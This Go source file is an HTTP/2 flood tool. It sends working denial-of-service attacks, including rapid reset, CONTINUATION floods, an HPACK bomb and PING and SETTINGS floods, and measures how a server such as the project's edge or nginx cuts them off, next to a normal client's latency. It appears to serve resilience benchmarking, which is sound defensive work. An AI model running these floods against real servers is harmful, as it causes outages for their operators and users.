// Command h2flood sends the HTTP/2 attacks of issue 26 over h2c (prior
// knowledge) for a while, reconnecting each time the server cuts a
// connection off (when it closes it, or with -reconnect as soon as its
// GOAWAY comes), and prints one line of what the server did; or, with
// -normal, is the normal client beside them: sequential GETs on one
// connection, with their latency. scripts/bench-h2-flood.sh runs both
// against the edge and nginx.
//
//	h2flood -attack rapid-reset -c 4 -d 10s -host bench.test 127.0.0.1:9380 /1k.bin
//	h2flood -attack ping -reconnect -c 4 -d 10s -host bench.test 127.0.0.1:9380 /1k.bin
//	h2flood -normal -d 10s -host bench.test 127.0.0.1:9380 /1k.bin
//	h2flood -list
package main

import (
	"bufio"
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"slices"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// client is one attacking connection.
type client struct {
	nc   net.Conn
	bw   *bufio.Writer
	fr   *http2.Framer
	get  []byte // a GET block that leaves the HPACK table alone
	post []byte // a POST block, likewise
	enc  *hpack.Encoder
	hbuf bytes.Buffer
}

// block encodes fields without touching either side's dynamic table
// (never-indexed literals, or static table entries).
func (c *client) block(fields ...string) []byte {
	c.hbuf.Reset()
	for i := 0; i+1 < len(fields); i += 2 {
		c.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1], Sensitive: fields[i] != ":method" && fields[i] != ":scheme"})
	}
	return bytes.Clone(c.hbuf.Bytes())
}

// attack is one abuse: setup once per connection, then rounds until the
// server cuts the connection off.
type attack struct {
	name  string
	about string
	read  bool // the client reads what the server sends (false: never)
	// reconnect: the client drops the connection as soon as it reads a
	// GOAWAY, as a flood tool that knows it was caught does.
	reconnect bool
	setup     func(c *client)
	round     func(c *client, i uint32)
}

func headers(c *client, id uint32, block []byte, endStream bool) {
	c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: endStream, EndHeaders: true})
}

var attacks = []attack{
	{name: "rapid-reset", about: "HEADERS then RST_STREAM, as fast as possible (CVE-2023-44487)", read: true,
		round: func(c *client, i uint32) {
			headers(c, 2*i+1, c.get, true)
			c.fr.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
		}},
	{name: "continuation", about: "a header block of empty CONTINUATION frames that never ends (CVE-2024-27316 family)", read: true,
		setup: func(c *client) { c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: c.get[:1]}) },
		round: func(c *client, i uint32) { c.fr.WriteContinuation(1, false, nil) }},
	{name: "hpack-bomb", about: "one 4 KB table entry referenced 16,000 times per 16 KiB block (~64 MB decoded)", read: true,
		setup: func(c *client) {
			c.hbuf.Reset()
			c.enc.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("a", 4000)}) // indexed: entry 62
			headers(c, 1, append(slices.Clone(c.get), c.hbuf.Bytes()...), true)
		},
		round: func(c *client, i uint32) {
			headers(c, 2*i+3, append(slices.Clone(c.get), bytes.Repeat([]byte{0x80 | 62}, 16000)...), true)
		}},
	{name: "empty-data", about: "DATA frames without payload or END_STREAM on an open POST (CVE-2019-9518)", read: true,
		setup: func(c *client) { headers(c, 1, c.post, false) },
		round: func(c *client, i uint32) { c.fr.WriteData(1, false, nil) }},
	{name: "empty-headers", about: "HEADERS with an empty block on new streams (CVE-2019-9518)", read: true,
		round: func(c *client, i uint32) { headers(c, 2*i+1, nil, true) }},
	{name: "refused", about: "POSTs whose bodies never come, beyond SETTINGS_MAX_CONCURRENT_STREAMS, endlessly", read: true,
		round: func(c *client, i uint32) { headers(c, 2*i+1, c.post, false) }},
	{name: "window-update", about: "WINDOW_UPDATE +1 on the connection", read: true,
		round: func(c *client, i uint32) { c.fr.WriteWindowUpdate(0, 1) }},
	{name: "settings", about: "SETTINGS frames, reading the ACKs", read: true,
		round: func(c *client, i uint32) { c.fr.WriteSettings() }},
	{name: "ping", about: "PING frames, reading the ACKs", read: true,
		round: func(c *client, i uint32) { c.fr.WritePing(false, [8]byte{byte(i)}) }},
	{name: "settings-noread", about: "SETTINGS frames, never reading",
		round: func(c *client, i uint32) { c.fr.WriteSettings() }},
	{name: "ping-noread", about: "PING frames, never reading",
		round: func(c *client, i uint32) { c.fr.WritePing(false, [8]byte{byte(i)}) }},
}

func main() {
	name := flag.String("attack", "", "the attack to send (see -list)")
	normal := flag.Bool("normal", false, "be the normal client instead: sequential GETs on one connection")
	rate := flag.Int("rate", 0, "with -normal: requests a second, paced (0: each as soon as the last is answered)")
	list := flag.Bool("list", false, "list the attacks")
	reconnect := flag.Bool("reconnect", false, "drop a connection as soon as a GOAWAY comes and open the next (for the attacks that read); default: go on until the server closes it")
	conns := flag.Int("c", 4, "attacking connections at once")
	dur := flag.Duration("d", 10*time.Second, "duration")
	host := flag.String("host", "localhost", ":authority to send")
	flag.Parse()
	if *list {
		for _, a := range attacks {
			fmt.Printf("%-16s %s\n", a.name, a.about)
		}
		return
	}
	if flag.NArg() != 2 {
		fmt.Fprintln(os.Stderr, "usage: h2flood [-attack NAME | -normal] [flags] HOST:PORT PATH")
		os.Exit(2)
	}
	addr, path := flag.Arg(0), flag.Arg(1)
	if *normal {
		os.Exit(runNormal(addr, *host, path, *dur, *rate))
	}
	i := slices.IndexFunc(attacks, func(a attack) bool { return a.name == *name })
	if i < 0 {
		fmt.Fprintf(os.Stderr, "h2flood: no attack %q (see -list)\n", *name)
		os.Exit(2)
	}
	a := attacks[i]
	a.reconnect = *reconnect && a.read
	runAttack(a, addr, *host, path, *conns, *dur)
}

// outcome is how the server ended one attacking connection.
type outcome struct {
	cut     bool          // the server closed it, or sent GOAWAY, before the test's end
	goAway  string        // its GOAWAY's error code, "" if none came
	goAwayT time.Duration // from the first frame to the GOAWAY
	closed  bool          // the server closed it before the test's end
	after   time.Duration // from the first frame to the close
	rounds  int
}

func runAttack(a attack, addr, host, path string, conns int, dur time.Duration) {
	ctx, cancel := context.WithTimeout(context.Background(), dur)
	defer cancel()
	var mu sync.Mutex // protects outs, dialErrs
	var outs []outcome
	dialErrs := 0
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				o, err := attackOnce(ctx, a, addr, host, path)
				mu.Lock()
				if err != nil {
					dialErrs++
				} else {
					outs = append(outs, o)
				}
				mu.Unlock()
				if err != nil {
					time.Sleep(10 * time.Millisecond)
				}
			}
		})
	}
	wg.Wait()
	cut, closed, rounds := 0, 0, 0
	codes := map[string]int{}
	var afters, goAways []time.Duration
	for _, o := range outs {
		rounds += o.rounds
		if o.cut {
			cut++
		}
		if o.closed {
			closed++
			afters = append(afters, o.after)
		}
		if o.goAway != "" {
			goAways = append(goAways, o.goAwayT)
		}
		codes[cmpOr(o.goAway, "none")]++
	}
	var cs []string
	for k, v := range codes {
		cs = append(cs, fmt.Sprintf("%s:%d", k, v))
	}
	sort.Strings(cs)
	perConn := 0
	if len(outs) > 0 {
		perConn = rounds / len(outs)
	}
	fmt.Printf("attack=%s conns=%d cut=%d closed=%d goaway_ms_p50=%s close_ms_p50=%s rounds_per_conn=%d goaway=%s dial_errors=%d cpu_s=%.2f\n",
		a.name, len(outs), cut, closed, median(goAways), median(afters), perConn, strings.Join(cs, ","), dialErrs, cpuSeconds())
}

// median is the median of d in milliseconds, "-" if d is empty.
func median(d []time.Duration) string {
	if len(d) == 0 {
		return "-"
	}
	slices.Sort(d)
	return fmt.Sprintf("%.1f", float64(d[len(d)/2].Microseconds())/1000)
}

// cpuSeconds is the CPU time (user and system) this process used.
func cpuSeconds() float64 {
	var ru syscall.Rusage
	if syscall.Getrusage(syscall.RUSAGE_SELF, &ru) != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano()).Seconds()
}

func cmpOr(s, def string) string {
	if s == "" {
		return def
	}
	return s
}

// attackOnce runs a on one new connection until the server ends it or
// ctx does.
func attackOnce(ctx context.Context, a attack, addr, host, path string) (outcome, error) {
	nc, err := net.DialTimeout("tcp", addr, 2*time.Second)
	if err != nil {
		return outcome{}, err
	}
	defer nc.Close()
	stop := context.AfterFunc(ctx, func() { nc.SetDeadline(time.Now()) })
	defer stop()
	c := &client{nc: nc, bw: bufio.NewWriterSize(nc, 64<<10)}
	c.fr = http2.NewFramer(c.bw, bufio.NewReader(nc))
	c.fr.AllowIllegalWrites = true // empty blocks and the like
	c.enc = hpack.NewEncoder(&c.hbuf)
	c.get = c.block(":method", "GET", ":scheme", "http", ":authority", host, ":path", path)
	c.post = c.block(":method", "POST", ":scheme", "http", ":authority", host, ":path", path)
	start := time.Now()
	io.WriteString(c.bw, http2.ClientPreface)
	c.fr.WriteSettings()
	var o outcome
	var closed, sawGoAway atomic.Bool // the reader is done; it dropped the connection on a GOAWAY
	readDone := make(chan struct{})
	if a.read {
		go func() {
			defer close(readDone)
			for {
				f, err := c.fr.ReadFrame()
				if err != nil {
					break
				}
				if g, ok := f.(*http2.GoAwayFrame); ok && o.goAway == "" {
					o.goAway, o.goAwayT = g.ErrCode.String(), time.Since(start)
					if a.reconnect {
						sawGoAway.Store(true)
						nc.SetDeadline(time.Now()) // the writer stops too
						break
					}
				}
			}
			closed.Store(true)
		}()
	} else {
		close(readDone)
	}
	if a.setup != nil {
		a.setup(c)
	}
	var werr error
	for i := uint32(0); !closed.Load() && ctx.Err() == nil && i < 1<<29; i++ {
		a.round(c, i)
		o.rounds++
		if i%32 == 31 {
			if werr = c.bw.Flush(); werr != nil {
				break
			}
		}
	}
	if werr == nil {
		werr = c.bw.Flush()
	}
	if !a.read {
		// A client that never reads learns of the close by a write
		// failing; wait for it if the loop ended another way.
		for werr == nil && ctx.Err() == nil {
			c.fr.WritePing(false, [8]byte{})
			werr = c.bw.Flush()
		}
	}
	if a.read && ctx.Err() == nil {
		// The loop ended on the reader's EOF, or on a write error: the
		// connection is gone either way.
		nc.SetReadDeadline(time.Now().Add(time.Second))
	}
	<-readDone
	o.after = time.Since(start)
	o.closed = ctx.Err() == nil && !sawGoAway.Load() && (closed.Load() || werr != nil && !errors.Is(werr, os.ErrDeadlineExceeded))
	o.cut = o.closed || o.goAway != ""
	return o, nil
}

// runNormal sends sequential GETs on one h2c connection for dur, rate a
// second (0: back to back), and prints their rate and latency; it
// returns the exit code.
func runNormal(addr, host, path string, dur time.Duration, rate int) int {
	var p http.Protocols
	p.SetUnencryptedHTTP2(true)
	tr := &http.Transport{Protocols: &p, MaxConnsPerHost: 1}
	defer tr.CloseIdleConnections()
	c := &http.Client{Transport: tr, Timeout: 10 * time.Second}
	url := "http://" + addr + path
	get := func() error {
		req, _ := http.NewRequest(http.MethodGet, url, nil)
		req.Host = host
		res, err := c.Do(req)
		if err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, res.Body)
		res.Body.Close()
		if err == nil && res.StatusCode != 200 {
			err = fmt.Errorf("status %d", res.StatusCode)
		}
		return err
	}
	if err := get(); err != nil { // the connection, and a warm cache
		fmt.Fprintf(os.Stderr, "h2flood: %v\n", err)
		return 1
	}
	var lat []time.Duration
	errs := 0
	start := time.Now()
	next := start
	for time.Since(start) < dur {
		if rate > 0 {
			// Paced: the same load on every server, whatever its
			// latency; a request late by more than one interval does not
			// make the next ones come in a burst.
			next = next.Add(time.Second / time.Duration(rate))
			if d := time.Until(next); d > 0 {
				time.Sleep(d)
			} else if d < -time.Second/time.Duration(rate) {
				next = time.Now()
			}
		}
		t := time.Now()
		if err := get(); err != nil {
			errs++
			continue
		}
		lat = append(lat, time.Since(t))
	}
	elapsed := time.Since(start)
	if len(lat) == 0 {
		fmt.Printf("normal req/s=0 mean_ms=0 p50_ms=0 p99_ms=0 max_ms=0 errors=%d\n", errs)
		return 0
	}
	var sum time.Duration
	for _, d := range lat {
		sum += d
	}
	slices.Sort(lat)
	ms := func(d time.Duration) float64 { return float64(d.Microseconds()) / 1000 }
	fmt.Printf("normal req/s=%.0f mean_ms=%.3f p50_ms=%.3f p99_ms=%.3f max_ms=%.1f errors=%d\n",
		float64(len(lat))/elapsed.Seconds(), ms(sum/time.Duration(len(lat))), ms(lat[len(lat)/2]), ms(lat[len(lat)*99/100]), ms(lat[len(lat)-1]), errs)
	return 0
}
